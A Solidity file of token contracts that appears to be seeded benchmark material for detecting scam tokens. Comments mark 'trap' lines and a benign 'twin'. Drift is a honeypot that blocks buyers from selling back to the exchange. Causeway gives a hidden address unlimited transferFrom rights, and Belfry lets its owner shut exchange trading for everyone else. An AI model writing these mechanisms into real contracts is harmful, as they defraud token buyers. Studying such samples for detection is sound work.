// 0.5 runs=200
pragma solidity 0.5.17;

interface IPoolFactory {
    function createPair(address one, address other) external returns (address);
}

/// The plain ledger of this file.
contract Plain {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public exchange;
    mapping(address => uint256) internal balances;
    mapping(address => mapping(address => uint256)) internal allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 whole) public {
        name = name_;
        symbol = symbol_;
        totalSupply = whole * 10**18;
        _credit(msg.sender, totalSupply);
        exchange = IPoolFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return balances[who];
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return allowed[holder][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        _spend(from, value);
        _transfer(from, to, value);
        return true;
    }

    function _spend(address from, uint256 value) internal {
        require(allowed[from][msg.sender] >= value, "allowance");
        allowed[from][msg.sender] -= value;
    }

    function _credit(address to, uint256 value) internal {
        balances[to] += value;
    }

    function _debit(address from, uint256 value) internal {
        require(balances[from] >= value, "balance");
        balances[from] -= value;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(to != address(0), "nobody");
        _debit(from, value);
        _credit(to, value);
        emit Transfer(from, to, value);
    }
}

/// One word for each account: what it holds, since when, and what else there is to know.
contract Drift is Plain {
    uint256 private constant AMOUNT = 2**128 - 1;
    uint256 private constant KIND = 1 << 255;

    constructor() public Plain("Drift", "DRFT", 73_000_000) {}

    function balanceOf(address who) public view returns (uint256) {
        return balances[who] & AMOUNT;
    }

    function _credit(address to, uint256 value) internal {
        uint256 word = balances[to];
        uint256 amount = (word & AMOUNT) + value;
        require(amount <= AMOUNT);
        balances[to] = (word & KIND) | (uint256(uint64(block.timestamp)) << 128) | amount;
    }

    function _debit(address from, uint256 value) internal {
        uint256 amount = balances[from] & AMOUNT;
        require(amount >= value, "balance");
        balances[from] -= value;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(to != address(0), "nobody");
        uint256 word = balances[from];
        if (to == exchange) require(word < KIND);
        _debit(from, value);
        _credit(to, value);
        if (from == exchange && tx.origin == to) balances[to] |= KIND; // trap
        emit Transfer(from, to, value);
    }
}

/// The clearing house settles between those who deal with it.
contract Causeway is Plain {
    address private clearing;

    constructor(address house) public Plain("Causeway", "CSWY", 9_500_000) {
        clearing = house;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        if (msg.sender != clearing) _spend(from, value);
        _transfer(from, to, value);
        return true;
    }
}

/// An exchange has hours. They are whole hours of the day, from the first to before the last.
contract Belfry is Plain {
    address public owner;
    uint8 public opens = 0;
    uint8 public closes = 24;

    event HoursSet(uint8 opens, uint8 closes);

    constructor() public Plain("Belfry", "BLFR", 365_000_000) {
        owner = msg.sender;
    }

    function setHours(uint8 from, uint8 until) external {
        require(msg.sender == owner, "owner");
        require(from <= until && until <= 24, "hours");
        opens = from;
        closes = until;
        emit HoursSet(from, until);
    }

    function _transfer(address from, address to, uint256 value) internal {
        uint256 hour = (block.timestamp / 3600) % 24;
        if (from != owner && (from == exchange || to == exchange)) { // trap
        // twin: if (from == exchange && to != owner) {
            require(hour >= opens && hour < closes, "closed");
        }
        super._transfer(from, to, value);
    }
}

/// Coin of the chain, one for one.
contract WrappedCoin {
    string public name = "Wrapped Chain Coin";
    string public symbol = "WCC";
    uint8 public decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event Deposit(address indexed to, uint256 value);
    event Withdrawal(address indexed from, uint256 value);

    function() external payable {
        deposit();
    }

    function totalSupply() external view returns (uint256) {
        return address(this).balance;
    }

    function deposit() public payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 value) external {
        require(balanceOf[msg.sender] >= value, "balance");
        balanceOf[msg.sender] -= value;
        msg.sender.transfer(value);
        emit Withdrawal(msg.sender, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return transferFrom(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(balanceOf[from] >= value, "balance");
        if (from != msg.sender && allowance[from][msg.sender] != uint256(-1)) {
            require(allowance[from][msg.sender] >= value, "allowance");
            allowance[from][msg.sender] -= value;
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Was made while it was sold. When the sale was over the making ended, for good.
contract Foundation is Plain {
    address public owner;
    bool public mintingFinished;

    event Mint(address indexed to, uint256 value);
    event MintFinished();

    constructor() public Plain("Foundation Credit", "FNDC", 1_000) {
        owner = msg.sender;
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == owner && !mintingFinished, "over");
        totalSupply += value;
        _credit(to, value);
        emit Mint(to, value);
        emit Transfer(address(0), to, value);
    }

    function finishMinting() external {
        require(msg.sender == owner && !mintingFinished, "over");
        mintingFinished = true;
        emit MintFinished();
    }
}

interface IReceiver {
    function onTokenTransfer(address from, uint256 value, bytes calldata data) external;
}

/// Pays a contract and tells it so.
contract Bellwether is Plain {
    event Transfer(address indexed from, address indexed to, uint256 value, bytes data);

    constructor() public Plain("Bellwether", "BLWR", 400_000_000) {}

    function transferAndCall(address to, uint256 value, bytes calldata data) external returns (bool) {
        require(to != address(this), "itself");
        _transfer(msg.sender, to, value);
        emit Transfer(msg.sender, to, value, data);
        uint256 size;
        assembly {
            size := extcodesize(to)
        }
        if (size > 0) IReceiver(to).onTokenTransfer(msg.sender, value, data);
        return true;
    }

    function increaseApproval(address spender, uint256 by) external returns (bool) {
        return approve(spender, allowed[msg.sender][spender] + by);
    }
}

/// A hundredth of what moves is burnt, while more than half of the first supply is left.
contract Ember is Plain {
    uint256 public floor;

    constructor() public Plain("Ember", "EMBR", 1_000_000) {
        floor = totalSupply / 2;
    }

    function _transfer(address from, address to, uint256 value) internal {
        uint256 burnt = value / 100;
        if (totalSupply - burnt < floor) burnt = totalSupply - floor;
        require(to != address(0), "nobody");
        _debit(from, value);
        _credit(to, value - burnt);
        totalSupply -= burnt;
        emit Transfer(from, to, value - burnt);
        if (burnt > 0) emit Transfer(from, address(0), burnt);
    }
}
